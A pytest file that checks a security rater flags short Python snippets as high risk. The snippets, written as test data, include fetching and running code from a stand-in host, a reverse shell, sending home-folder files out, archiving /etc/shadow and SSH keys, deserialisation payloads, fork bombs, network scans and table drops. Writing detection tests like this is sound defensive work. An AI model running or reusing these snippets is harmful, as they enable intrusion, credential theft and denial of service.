"""What libraries make run, send away, or take all of."""

from __future__ import annotations

import pytest

from guardtier.risk import SecurityRisk
from rating import rate_python

HARM = [
    # what was fetched, encoded or sent by others runs
    (
        "import urllib.request as u, runpy\np, _ = u.urlretrieve('https://x.example/a.py')\n"
        "runpy.run_path(p)",
        "python.run.downloaded",
    ),
    (
        "import subprocess, httpx\nsubprocess.run(['sh'], input=httpx.get('https://x.example/a').text)",
        "python.run.remote",
    ),
    (
        "import mmap\nm = mmap.mmap(-1, 64, prot=mmap.PROT_READ | mmap.PROT_EXEC)",
        "python.native.injection",
    ),
    (
        "import builtins, pickle\nclass A:\n    def __reduce__(self):\n        return (eval, ('1',))\n"
        "print(pickle.dumps(A()))",
        "python.deserialise.payload",
    ),
    (
        "import yaml\nyaml.load('a: !!python/object/new:os.system [id]', Loader=yaml.Loader)",
        "python.deserialise.payload",
    ),
    (
        "import subprocess\nfrom fastapi import FastAPI\nweb = FastAPI()\n@web.post('/do')\n"
        "def do(what: str):\n    return subprocess.check_output(what, shell=True)",
        "python.run.remote",
    ),
    (
        "import os\nfrom discord.ext import commands\nbot = commands.Bot('!')\n@bot.command()\n"
        "async def do(ctx, *, what):\n    await ctx.send(os.popen(what).read())",
        "python.run.remote",
    ),
    (
        "import os, paho.mqtt.client as m\ndef got(client, data, msg):\n"
        "    os.system(msg.payload.decode())\n"
        "c = m.Client()\nc.on_message = got\nc.loop_forever()",
        "python.run.remote",
    ),
    (
        "from http.server import *\nimport os\nclass A(BaseHTTPRequestHandler):\n    def do_POST(self):\n"
        "        os.system(self.path)",
        "python.run.remote",
    ),
    (
        "from xmlrpc.server import SimpleXMLRPCServer as S\nimport os\ndef do(what):\n"
        "    os.system(what)\n"
        "s = S(('', 1))\ns.register_function(do)",
        "python.run.remote",
    ),
    (
        "import os, socket, subprocess\ns = socket.create_connection(('x.example', 1))\n"
        "p = subprocess.Popen('/bin/sh', stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
        "while True:\n    copy(s, p)",
        "python.shell.reverse",
    ),
    (
        "import os, urllib.request as u\np = '/tmp/b'\n"
        "open(p, 'wb').write(u.urlopen('https://x.example/b').read())\n"
        "os.execv(p, ['b'])",
        "python.run.downloaded",
    ),
    (
        "import io, sys, zipfile, requests\n"
        "z = zipfile.ZipFile(io.BytesIO(requests.get('https://x.example/z').content))\n"
        "z.extractall('/tmp/lib')\nsys.path.append('/tmp/lib')\nimport plugin",
        "python.run.downloaded",
    ),
    (
        "import paramiko\nc = paramiko.SSHClient()\nc.connect('x')\n"
        "c.get_transport().request_port_forward('', 9)",
        "python.network.tunnel",
    ),
    (
        "import zipfile\nwith zipfile.ZipFile('a.zip', 'w') as z:\n    z.write('/etc/shadow')",
        "python.collect.credentials",
    ),
    ("import tarfile\ntarfile.open('a.tgz', 'w').add('/root/.ssh')", "python.collect.credentials"),
    (
        "import logging\nlogging.getLogger().addHandler(logging.FileHandler('/etc/cron.d/a'))",
        "python.write.autorun",
    ),
    (
        "import configparser, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.pypirc'))",
        "python.read.credentials",
    ),
    (
        "import paramiko\nparamiko.Ed25519Key.from_private_key_file('/root/.ssh/id_ed25519')",
        "python.read.credentials",
    ),
    (
        "import sqlalchemy as sa\nfrom m import Cart, engine\nwith engine.begin() as c:\n"
        "    c.execute(sa.delete(Cart))",
        "python.data.destroyed",
    ),
    ("import jsonpickle\njsonpickle.decode('{\"py/reduce\": []}')", "python.deserialise.payload"),
    (
        "import itertools, zipfile\nz = zipfile.ZipFile('a.zip')\n"
        "for one in itertools.product('abc', repeat=3):\n    z.extractall(pwd=''.join(one).encode())",
        "python.credentials.guessed",
    ),
    (
        "import httpx\nfrom multiprocessing.pool import ThreadPool\ndef ask(_):\n"
        "    httpx.get('https://x.example')\n"
        "while True:\n    ThreadPool(99).map(ask, range(99))",
        "python.exhaust.loop",
    ),
    # what leaves
    (
        "import io, os, tarfile, requests\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode='w')\n"
        "for a, _, c in os.walk(os.path.expanduser('~/Pictures')):\n    for f in c:\n"
        "        t.add(os.path.join(a, f))\nrequests.post('https://x.example', data=b.getvalue())",
        "python.network.exfiltration",
    ),
    (
        "import pysftp\nwith pysftp.Connection('x.example') as c:\n    c.put('report.txt')",
        "python.network.upload",
    ),
    (
        "import socketserver, http.server\n"
        "socketserver.TCPServer(('', 80), http.server.SimpleHTTPRequestHandler).serve_forever()",
        "python.network.file_server",
    ),
    (
        "import subprocess\nfor last in range(1, 255):\n"
        "    subprocess.call(['ping', '-c', '1', f'10.0.0.{last}'])",
        "python.network.scan",
    ),
    # loops
    (
        "import socket\nfor port in range(1, 9000):\n    s = socket.socket()\n"
        "    if not s.connect_ex(('10.1.2.3', port)):\n        print(port)",
        "python.network.scan",
    ),
    (
        "import socket\nfrom multiprocessing.pool import ThreadPool\ndef look(port):\n"
        "    s = socket.socket()\n"
        "    return s.connect_ex(('x.example', port))\nprint(ThreadPool(9).map(look, range(1024)))",
        "python.network.scan",
    ),
    (
        "import threading\ndef busy():\n    n = 0\n    while True:\n        n = n * n + 1\n"
        "for _ in range(64):\n    threading.Thread(target=busy).start()",
        "python.exhaust.processes",
    ),
    (
        "from multiprocessing import Process\ndef more():\n    Process(target=more).start()\nmore()",
        "python.exhaust.processes",
    ),
    ("import os\ndef more():\n    os.fork()\n    more()\nmore()", "python.exhaust.processes"),
    (
        "import itertools, subprocess\nfor n in itertools.count():\n    subprocess.Popen(['sleep', '99'])",
        "python.exhaust.loop",
    ),
    (
        "import os, uuid\nwhile True:\n    with open(os.path.join('/tmp', str(uuid.uuid4())), 'w'):\n"
        "        pass",
        "python.exhaust.loop",
    ),
    (
        "import ipaddress, socket\nfor one in ipaddress.ip_network('10.1.0.0/16').hosts():\n"
        "    socket.create_connection((str(one), 22), timeout=1)",
        "python.network.scan",
    ),
    ("from playhouse.db import db\ndb.execute_sql('DROP TABLE carts')", "sql.drop.table"),
    (
        "import asyncio, httpx\nasync def go():\n    async with httpx.AsyncClient() as web:\n"
        "        while True:\n            r = await web.get('https://x.example/')\n"
        "            await r.aread()\n"
        "asyncio.run(go())",
        "python.exhaust.loop",
    ),
    (
        "import telnetlib\nt = telnetlib.Telnet('10.0.0.1')\nt.write(b'configure terminal\\nno aaa\\n')",
        "python.network.changed",
    ),
    (
        "import github\nfor one in github.Github('t').get_repo('a/b').get_branches():\n"
        "    one.remove_protection()",
        "python.cloud.access",
    ),
    (
        "import os, tempfile, urllib.request\nfd, path = tempfile.mkstemp()\n"
        "with os.fdopen(fd, 'wb') as f:\n"
        "    f.write(urllib.request.urlopen('https://x.example/a').read())\n"
        "os.chmod(path, 0o755)\nos.execv(path, ['a'])",
        "python.run.downloaded",
    ),
    (
        "import subprocess, tempfile, urllib.request\nwith tempfile.NamedTemporaryFile() as f:\n"
        "    f.write(urllib.request.urlopen('https://x.example/a').read())\n"
        "subprocess.run(['sh', f.name])",
        "python.run.downloaded",
    ),
]


@pytest.mark.parametrize(("code", "finding"), HARM)
def test_harm_by_libraries_is_high(code: str, finding: str) -> None:
    found = {one.id: one.risk for one in rate_python(code).findings}
    assert found.get(finding) is SecurityRisk.HIGH, found
